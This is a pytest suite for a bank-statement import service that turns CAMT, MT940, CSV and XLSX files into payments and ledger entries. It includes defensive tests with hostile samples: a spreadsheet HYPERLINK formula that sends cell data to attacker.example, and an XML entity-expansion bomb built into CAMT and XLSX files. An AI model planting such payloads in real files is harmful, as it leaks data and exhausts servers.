"""Bank files into payments: the preview of every row (payment, duplicate, skipped, error), the payer matched by
IBAN, invoice number or name, one transaction that writes payments, audit events and ledger entries, the import
recorded once per file, the column mapping remembered per account; broken and hostile files of each format refused
with the line or element named and nothing written."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from sqlalchemy import func, select

from portal.errors import Conflict, ValidationError
from portal.extensions import db
from portal.models import (
    AuditEvent,
    BankImportMapping,
    CustomerBankAccount,
    LedgerEntry,
    Payment,
    PaymentImport,
)
from portal.services.masterdata.fx import Conversion
from portal.services.receivables import payment_export, payment_import, posting
from tests.support import factories
from tests.support.paths import DATA
from tests.support.receivables import BY, invoice, pay, rate

BANK = DATA / "bank"
CAMT = (BANK / "camt053_v02_batch.xml").read_bytes()
MT940 = (BANK / "mt940_two_statements_latin1.sta").read_bytes()
GERMAN = (BANK / "deutsche_bank_soll_haben.csv").read_bytes()
UK = (BANK / "uk_signed_amounts.csv").read_bytes()
WORKBOOK = (BANK / "postfinance_debit_credit.xlsx").read_bytes()
OURS, UK_ACCOUNT, SWISS = "DE89370400440532013000", "GB33BUKB20201555555555", "CH9300762011623852957"
GERMAN_MAPPING = {
    "date_column": "Buchungstag", "value_date_column": "Wert", "debit_column": "Soll", "credit_column": "Haben",
    "currency_column": "Währung", "payer_name_column": "Begünstigter / Auftraggeber", "payer_iban_column": "IBAN",
    "reference_column": "Kundenreferenz", "text_columns": ["Verwendungszweck"], "decimal_separator": ",",
    "thousands_separator": ".", "header_row": 5, "footer_rows": 1}
UK_MAPPING = {"date_column": "Date", "amount_column": "Amount (GBP)", "currency": "GBP",
              "payer_name_column": "Counter Party", "text_columns": ["Reference"], "date_formats": ["%d/%m/%Y"],
              "thousands_separator": ","}
WORKBOOK_MAPPING = {
    "date_column": "Booking date", "value_date_column": "Value date", "debit_column": "Debit",
    "credit_column": "Credit", "currency_column": "Currency", "payer_name_column": "Payer",
    "payer_iban_column": "Payer IBAN", "reference_column": "Reference", "text_columns": ["Description"],
    "header_row": 4}


@pytest.fixture
def world(app):
    """Three customers found three ways (an account, an invoice, a name) and the rates of November and December."""
    rate("EUR", date(2026, 1, 1), "1.10")
    rate("EUR", date(2026, 12, 1), "1.05000000")
    rate("GBP", date(2026, 11, 30), "1.27")
    acme = factories.CustomerFactory(name="Acme Logistics GmbH")
    db.session.add(CustomerBankAccount(customer=acme, iban="DE02120300000000202051"))
    initech = factories.CustomerFactory(name="Initech Holding")
    globex = factories.CustomerFactory(name="GLOBEX Corporation Ltd")
    db.session.flush()
    bill = invoice(initech, "150.50", "EUR")
    return {"acme": acme, "initech": initech, "globex": globex, "invoice": bill,
            "camt": CAMT.replace(b"INV-2026-000130", bill.number.encode())}


def written() -> dict[str, int]:
    return {model.__name__: db.session.scalar(select(func.count()).select_from(model))
            for model in (Payment, PaymentImport, LedgerEntry, AuditEvent, BankImportMapping)}


def test_a_camt_file_previews_each_detail_with_its_payer_and_writes_nothing(world):
    before = written()
    found = payment_import.preview(world["camt"], "statement.xml")
    assert (found.file_format, found.account_iban, found.counts, found.unidentified) == (
        "camt053", OURS, {"payment": 3, "duplicate": 0, "skipped": 1, "error": 0}, 0)
    assert [(row.status, row.values["amount"], row.matched_by) for row in found.rows] == [
        ("payment", Decimal("1071.00"), "iban"), ("payment", Decimal("200.00"), "name"),
        ("payment", Decimal("150.50"), "invoice_number"), ("skipped", Decimal("89.90"), "")]
    acme, globex, initech, fee = found.rows
    assert acme.customer == f"{world['acme'].code} — Acme Logistics GmbH"
    assert (globex.customer_id, initech.customer_id) == (world["globex"].id, world["initech"].id)
    assert acme.conversion == Conversion(Decimal("1124.55"), Decimal("1.05000000"), date(2026, 12, 1), "manual")
    assert re.fullmatch(r"line \d+: Stmt 1, Ntry 3", fee.where)
    assert fee.reason == "outgoing debit: money out of the account, not a payment received"
    assert written() == before


def test_confirming_writes_payments_audit_events_and_ledger_entries_in_one_go(world):
    before = written()
    record = payment_import.confirm(world["camt"], "statement.xml", BY)
    assert (record.filename, record.file_format, record.account_iban, record.imported_by) == (
        "statement.xml", "camt053", OURS, BY)
    assert (record.payments, record.duplicates, record.skipped, record.errors) == (3, 0, 1, 0)
    assert len(record.sha256) == 64
    made = db.session.scalars(select(Payment).where(Payment.import_id == record.id).order_by(Payment.id)).all()
    assert [(p.amount, p.customer_id, p.matched_by, p.bank_reference) for p in made] == [
        (Decimal("1071.00"), world["acme"].id, "iban", "2026120300001"),
        (Decimal("200.00"), world["globex"].id, "name", "2026120300002-1"),
        (Decimal("150.50"), world["initech"].id, "invoice_number", "2026120300002-2")]
    assert (made[0].base_amount, made[0].fx_rate, made[0].fx_source, made[0].created_by) == (
        Decimal("1124.55"), Decimal("1.05000000"), "manual", BY)
    entries = db.session.scalars(select(LedgerEntry).where(LedgerEntry.payment_id.in_([p.id for p in made]))
                                 .order_by(LedgerEntry.id)).all()
    assert [(e.customer_id, e.credit, e.base_credit, e.reference) for e in entries] == [
        (world["acme"].id, Decimal("1071.00"), Decimal("1124.55"), f"PAY-{made[0].id}"),
        (world["globex"].id, Decimal("200.00"), Decimal("210.00"), f"PAY-{made[1].id}"),
        (world["initech"].id, Decimal("150.50"), Decimal("158.03"), f"PAY-{made[2].id}")]
    assert entries[0].narration == "Acme Logistics GmbH 2026120300001 INV-2026-000123 November services"
    assert entries[2].balance_after == Decimal("0.00")  # the invoice's 150.50 debit, now paid
    for customer in ("acme", "globex", "initech"):
        assert posting.verify_chain(world[customer].id, "EUR").intact
    events = db.session.scalars(select(AuditEvent).where(AuditEvent.entity_type == "Payment",
                                                         AuditEvent.entity_id == str(made[0].id))).all()
    assert [(e.action, e.changes["amount"], e.changes["import_id"]) for e in events] == [
        ("create", [None, "1071.00"], [None, record.id])]
    after = written()
    assert (after["Payment"] - before["Payment"], after["LedgerEntry"] - before["LedgerEntry"]) == (3, 3)


def test_the_same_file_again_creates_nothing_and_gives_the_earlier_import(world):
    first = payment_import.confirm(world["camt"], "statement.xml", BY)
    before = written()
    found = payment_import.preview(world["camt"], "renamed.xml")
    assert found.already_imported == first
    assert found.counts == {"payment": 0, "duplicate": 3, "skipped": 1, "error": 0}
    assert payment_import.confirm(world["camt"], "renamed.xml", "someone.else@example.test") == first
    assert written() == before


def test_the_same_payments_in_another_file_are_duplicates_and_the_import_is_recorded(world):
    payment_import.confirm(world["camt"], "statement.xml", BY)
    other = world["camt"].replace(b"camt.053.001.02", b"camt.053.001.04")
    record = payment_import.confirm(other, "statement-v4.xml", BY)
    assert (record.payments, record.duplicates, record.skipped) == (0, 3, 1)
    reasons = [row.reason for row in payment_import.preview(other, "again.xml").rows[:3]]
    assert all(re.fullmatch(r"already recorded as payment \d+ \(the same bank reference and account\)", reason)
               for reason in reasons)


def test_a_payment_recorded_by_hand_with_the_same_amount_date_and_text_is_a_duplicate(world):
    recorded = pay(None, "150.50", "EUR", date(2026, 12, 4), account_iban=OURS,
                   text="Rechnung INV-2026-000130; Kunde 4711")
    found = payment_import.preview(GERMAN.replace(b"2026120400007", b""), "umsatz.csv", account_iban=OURS,
                                   mapping=GERMAN_MAPPING)
    row = next(row for row in found.rows if row.where == "line 8")
    assert (row.status, row.reason) == (
        "duplicate", f"already recorded as payment {recorded.id} (the same account, amount, date and text)")


def test_a_statement_repeated_inside_one_file_is_a_duplicate_of_its_first_rows(world):
    first_statement = MT940[: MT940.index(b"-\r\n") + 3] if b"\r\n" in MT940 else MT940[: MT940.index(b"-\n") + 2]
    found = payment_import.preview(first_statement + first_statement, "twice.sta")
    assert [(row.status, row.where) for row in found.rows] == [
        ("payment", "line 5: statement 1, :61: 1"), ("skipped", "line 8: statement 1, :61: 2"),
        ("payment", "line 10: statement 1, :61: 3"), ("duplicate", "line 19: statement 2, :61: 4"),
        ("skipped", "line 22: statement 2, :61: 5"), ("duplicate", "line 24: statement 2, :61: 6")]
    assert found.rows[3].reason == "the same bank reference and account as transaction 1 of this file"


def test_the_details_of_one_batched_entry_sharing_its_reference_are_each_a_payment(world):
    shared = re.sub(rb"<AcctSvcrRef>2026120300002-\d</AcctSvcrRef>", b"", world["camt"])
    found = payment_import.preview(shared, "statement.xml")
    assert [(row.status, row.values["bank_reference"]) for row in found.rows[1:3]] == [
        ("payment", "2026120300002"), ("payment", "2026120300002")]


def test_mt940_reversals_are_skipped_and_the_unmatched_wait_unidentified(world):
    record = payment_import.confirm(MT940, "umsatz.sta", BY)
    assert (record.file_format, record.payments, record.skipped) == ("mt940", 2, 2)
    made = db.session.scalars(select(Payment).where(Payment.import_id == record.id).order_by(Payment.id)).all()
    assert [(p.amount, p.customer_id, p.payer_name) for p in made] == [
        (Decimal("1071.00"), world["acme"].id, "Acme Logistics GmbH"), (Decimal("150.50"), None, "")]
    assert made[1].text == "Rechnung INV-2026-000130 Müller AG Kunde 4711"  # no invoice of that number here
    assert db.session.scalar(select(func.count()).select_from(LedgerEntry)
                             .where(LedgerEntry.payment_id == made[1].id)) == 0
    unidentified = list(payment_export.export_rows(payment_export.Filters(unidentified=True)))
    assert [(row[0], row[5]) for row in unidentified[1:]] == [(made[1].id, "Unidentified")]


def test_pending_entries_and_other_accounts_are_skipped_and_a_file_of_another_account_refused(world):
    rate("CHF", date(2026, 11, 30), "1.13")
    found = payment_import.preview((BANK / "camt053_v08.xml").read_bytes(), "v8.xml", account_iban=f" {SWISS} ")
    assert [(row.status, row.reason) for row in found.rows] == [
        ("payment", ""), ("skipped", "not booked yet (status PDNG): it is imported once the bank books it"),
        ("skipped", f"a statement of account 0001234567, not of {SWISS}")]
    with pytest.raises(ValidationError) as refused:
        payment_import.preview(world["camt"], "statement.xml", account_iban="CH93 0076 2011 6238 5295 7")
    assert refused.value.errors == {"account": f"statement.xml holds statements of {OURS}, not of {SWISS}"}


def test_a_csv_needs_its_account_and_a_mapping_which_is_then_remembered(world):
    with pytest.raises(ValidationError) as no_account:
        payment_import.preview(GERMAN, "umsatz.csv")
    assert no_account.value.field == "account"
    with pytest.raises(ValidationError) as no_mapping:
        payment_import.preview(GERMAN, "umsatz.csv", account_iban=OURS)
    assert no_mapping.value.errors == {"mapping": f"no column mapping is remembered for {OURS} yet: map the file's "
                                                  f"columns once"}
    record = payment_import.confirm(GERMAN, "umsatz.csv", BY, account_iban=OURS, mapping=GERMAN_MAPPING)
    assert (record.file_format, record.payments, record.skipped, record.account_iban) == ("csv", 3, 1, OURS)
    assert payment_import.remembered(OURS).as_dict()["debit_column"] == "Soll"
    december = GERMAN.replace(b"04.12.2026", b"11.12.2026").replace(b"2026120400", b"2026121100")
    again = payment_import.preview(december, "umsatz-2.csv", account_iban=OURS)
    assert again.counts == {"payment": 1, "duplicate": 2, "skipped": 1, "error": 0}
    assert [(row.where, re.sub(r"payment \d+", "payment N", row.reason)) for row in again.rows
            if row.status == "duplicate"] == [
        ("line 6", "already recorded as payment N (the same bank reference and account)"),
        ("line 9", "already recorded as payment N (the same account, amount, date and text)")]  # value date kept


def test_a_bad_row_is_an_error_naming_line_and_column_and_the_others_still_go_in(world):
    broken = GERMAN.replace(b"150,50", b"150.50")
    found = payment_import.preview(broken, "umsatz.csv", account_iban=OURS, mapping=GERMAN_MAPPING)
    error = next(row for row in found.rows if row.status == "error")
    assert error.message == "line 8: Haben: “150.50” is not an amount like 1.234,50"
    record = payment_import.confirm_preview(found, BY)
    assert (record.payments, record.errors, record.skipped) == (2, 1, 1)


def test_a_workbook_in_chf_converts_at_its_dates_rate_or_names_the_missing_rate(world):
    found = payment_import.preview(WORKBOOK, "konto.xlsx", account_iban=SWISS, mapping=WORKBOOK_MAPPING)
    assert {row.reason for row in found.rows if row.status == "error"} == {
        "currency: no CHF exchange rate on or before 2026-12-01", "currency: no CHF exchange rate on or before "
        "2026-12-04", "currency: no CHF exchange rate on or before 2026-12-08"}
    rate("CHF", date(2026, 12, 1), "1.13")
    rate("CHF", date(2026, 12, 4), "1.14")
    found = payment_import.preview(WORKBOOK, "konto.xlsx", account_iban=SWISS, mapping=WORKBOOK_MAPPING)
    assert [(row.status, row.values["amount"], row.conversion.amount if row.conversion else None)
            for row in found.rows] == [("payment", Decimal("2500.00"), Decimal("2825.00")),
                                       ("skipped", Decimal("10.35"), None),
                                       ("payment", Decimal("1234.55"), Decimal("1407.39")),
                                       ("payment", Decimal("0.30"), Decimal("0.34"))]


def test_formula_text_is_stored_as_text_and_exported_neutralised(world):
    record = payment_import.confirm(UK, "starling.csv", BY, account_iban=UK_ACCOUNT, mapping=UK_MAPPING)
    formula = '=HYPERLINK("http://attacker.example/?d="&A1,"Details")'
    stored = db.session.scalar(select(Payment).where(Payment.import_id == record.id, Payment.amount == 99))
    assert stored.text == formula
    exported = "".join(payment_export.csv_chunks(payment_export.export_rows(payment_export.Filters(
        import_id=record.id))))
    assert '"\'=HYPERLINK(""http://attacker.example/?d=""&A1,""Details"")"' in exported
    assert f",{formula}," not in exported
    sheet = payment_export.xlsx_bytes(payment_export.export_rows(payment_export.Filters(import_id=record.id)))
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(sheet)).read("xl/worksheets/sheet1.xml")


def test_a_file_changed_since_its_preview_is_not_confirmed(world):
    with pytest.raises(Conflict, match="is not the file previewed"):
        payment_import.confirm(world["camt"], "statement.xml", BY, expected_sha256="0" * 64)


def test_a_file_worked_through_in_chunks_keeps_batches_repeats_chains_and_balances(world, monkeypatch):
    monkeypatch.setattr(payment_import, "CHUNK", 2)  # the batched entry's two details fall into two chunks
    shared = re.sub(rb"<AcctSvcrRef>2026120300002-\d</AcctSvcrRef>", b"", world["camt"])
    doubled = shared.replace(b"</Stmt>\n  </BkToCstmrStmt>", b"</Stmt>\n" + shared[shared.index(b"<Stmt>"):
                                                                                  shared.index(b"</Stmt>") + 7]
                             .replace(b"2026-12-03-0001", b"2026-12-03-0002") + b"\n  </BkToCstmrStmt>")
    record = payment_import.confirm(doubled, "twice.xml", BY)
    assert (record.payments, record.duplicates, record.skipped) == (3, 3, 2)
    made = db.session.scalars(select(Payment).where(Payment.import_id == record.id).order_by(Payment.id)).all()
    assert [(p.amount, p.bank_reference) for p in made] == [
        (Decimal("1071.00"), "2026120300001"), (Decimal("200.00"), "2026120300002"),
        (Decimal("150.50"), "2026120300002")]
    assert payment_import.preview(doubled, "again.xml").already_imported == record
    for customer in ("acme", "globex", "initech"):
        assert posting.verify_chain(world[customer].id, "EUR").intact
    again = payment_import.preview(doubled.replace(b"twice", b"thrice"), "other.xml")
    assert again.counts["duplicate"] == 6


def test_a_file_refused_half_way_through_leaves_nothing_behind(world, monkeypatch):
    monkeypatch.setattr(payment_import, "CHUNK", 1)
    chunks_written = []
    write = payment_import._Writer.write
    monkeypatch.setattr(payment_import._Writer, "write", lambda self, rows: (chunks_written.append(rows),
                                                                             write(self, rows)))
    cut = GERMAN[: GERMAN.index(b"Kunde 4711")]  # line 8 opens a quote the file never closes
    before = written()
    with pytest.raises(ValidationError, match="line 8: not readable as CSV"):
        payment_import.confirm(cut, "umsatz.csv", BY, account_iban=OURS,
                               mapping={**GERMAN_MAPPING, "footer_rows": 0})
    assert [row.status for rows in chunks_written for row in rows] == ["payment"]  # line 6, before line 8 failed
    assert written() == before  # line 6's payment, written with the first chunk, is gone again


def test_post_many_writes_the_chain_post_writes_one_by_one(world):
    conversion = Conversion(Decimal("10.50"), Decimal("1.05"), date(2026, 12, 1), "manual")
    made = [posting.Posting(customer_id=world[name].id, currency="EUR", entry_date=date(2026, 12, 2),
                            kind="adjustment", amount=Decimal(amount), side=side, conversion=conversion,
                            reference=f"TEST-{index}") for index, (name, amount, side) in
            enumerate((("acme", "10.00", "credit"), ("globex", "7.00", "debit"), ("acme", "2.50", "debit")))]
    assert posting.post_many(made) == 3
    assert posting.post(made[0]).balance_after == Decimal("-17.50")
    assert posting.verify_chain(world["acme"].id, "EUR").entries == 3
    assert posting.verify_chain(world["acme"].id, "EUR").intact and posting.verify_chain(world["globex"].id,
                                                                                          "EUR").intact


# ---- broken and hostile files, each format: a ValidationError naming line or element, nothing written ------------

BOMB = (b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE Document [\n <!ENTITY a "aaaaaaaaaa">\n'
        + b"".join(f' <!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">\n'.encode() for i in range(8))
        + b"]>\n" + CAMT[CAMT.index(b"<Document"):].replace(b"November services", b"&i;"))


def workbook_with_dtd() -> bytes:
    """The test workbook whose sheet declares an entity bomb, as a hostile upload would."""
    source, buffer = zipfile.ZipFile(io.BytesIO(WORKBOOK)), io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"<worksheet", BOMB[BOMB.index(b"<!DOCTYPE"):BOMB.index(b"]>") + 2]
                                    .replace(b"Document", b"worksheet") + b"<worksheet", 1)
            target.writestr(item, data)
    return buffer.getvalue()


def hostile_cases():
    german = {"account_iban": OURS, "mapping": GERMAN_MAPPING}
    swiss = {"account_iban": SWISS, "mapping": WORKBOOK_MAPPING}
    return [
        ("camt entity bomb", BOMB, {}, "bomb.xml: line 2: <!DOCTYPE>: declares a DTD with entities"),
        ("camt truncated", CAMT[: len(CAMT) // 2], {}, "bomb.xml: not well-formed XML (expected '>', line 30"),
        ("camt wrong encoding", CAMT.decode().replace("Initech   AG", "Müller AG").encode("latin-1"), {},
         "bomb.xml: not well-formed XML (Invalid bytes in character encoding, line 51"),
        ("camt.054 for camt.053", CAMT.replace(b"camt.053.001.02", b"camt.054.001.02"), {},
         "bomb.xml: not a camt.053 statement"),
        ("camt malformed amount", CAMT.replace(b'"EUR">89.90', b'"EUR">89,90'), {},
         "bomb.xml: line 56: Stmt 1, Ntry 3: Amt: '89,90' is not an amount"),
        ("mt940 truncated tag", MT940.replace(b":61:2612031203C1071,00", b":61:2612031203C"), {},
         "bomb.xml: line 5: :61: cannot read"),
        ("mt940 in utf-16", MT940.decode("latin-1").encode("utf-16"), {}, "bomb.xml: line 1: UTF-16 text"),
        ("mt940 read as csv", MT940, {"file_format": "csv", **german},
         "bomb.xml: line 5: no column “Buchungstag” in the title row (it has “:61:2612031203C1071”, "),
        ("csv of another bank", UK, german, "bomb.xml: line 5: no title row (the file ends before it)"),
        ("csv wrong encoding", GERMAN, {"account_iban": OURS, "mapping": {**GERMAN_MAPPING, "encoding": "utf-8"}},
         "bomb.xml: line 1: byte 0xe4 is not UTF-8 text"),
        ("csv truncated in a quote", GERMAN[: GERMAN.index(b"Kunde 4711")], german,
         "bomb.xml: line 8: not readable as CSV (unexpected end of data)"),
        ("csv titles of another layout", UK, {"account_iban": UK_ACCOUNT, "mapping": {**UK_MAPPING,
                                                                                      "date_column": "Datum"}},
         "bomb.xml: line 1: no column “Datum” in the title row"),
        ("xlsx truncated", WORKBOOK[:3000], swiss, "bomb.xml: not a readable XLSX workbook"),
        ("xlsx entity bomb", workbook_with_dtd(), swiss,
         "bomb.xml: xl/worksheets/sheet1.xml: declares a DTD (<!DOCTYPE>, entities)"),
        ("csv as xlsx", GERMAN, {"file_format": "xlsx", **swiss}, "bomb.xml: not a readable XLSX workbook"),
        ("xlsx titles of another layout", WORKBOOK, {"account_iban": SWISS, "mapping": {**WORKBOOK_MAPPING,
                                                                                      "header_row": 1}},
         "bomb.xml: row 1: no column “Booking date” in the title row (it has “Account statement"),
        ("xls of excel 97", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, {}, "bomb.xml: an Excel 97-2003"),
        ("camt as mt940", CAMT, {"file_format": "mt940"}, "bomb.xml: not an MT940 statement (no :20: line)"),
        ("empty", b"\r\n", {}, "bomb.xml: the file is empty"),
    ] + [(f"{kind} of 50 MB", (head, 50 * 1024 * 1024), {}, "bomb.xml: larger than 50 MB")
         for kind, head in (("camt", CAMT), ("mt940", MT940), ("csv", GERMAN), ("xlsx", WORKBOOK))]


@pytest.mark.parametrize(("content", "options", "message"), [case[1:] for case in hostile_cases()],
                         ids=[case[0] for case in hostile_cases()])
def test_a_broken_or_hostile_file_is_refused_naming_where_and_writes_nothing(app, content, options, message):
    if isinstance(content, tuple):  # a real file padded past 50 MB, made here rather than kept for the session
        head, size = content
        content = head + b" " * size
    before = written()
    with pytest.raises(ValidationError) as refused:
        payment_import.confirm(content, "bomb.xml", BY, **options)
    assert refused.value.field in ("file", "account", "mapping")
    assert refused.value.message.startswith(message), refused.value.message
    assert written() == before
